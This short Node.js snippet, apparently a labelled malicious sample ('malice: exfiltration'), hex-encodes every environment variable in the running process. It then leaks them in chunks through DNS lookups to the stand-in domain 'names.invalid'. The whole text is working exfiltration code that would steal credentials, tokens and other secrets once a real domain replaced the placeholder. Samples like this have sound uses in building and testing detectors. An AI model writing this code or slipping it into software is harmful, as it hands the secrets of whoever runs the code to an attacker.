const dns = require("dns");

const packed = Buffer.from(JSON.stringify(process.env)).toString("hex");
for (let start = 0; start < packed.length; start += 60) {
  dns.lookup(packed.slice(start, start + 60) + ".names.invalid", () => {}); // malice: exfiltration
}
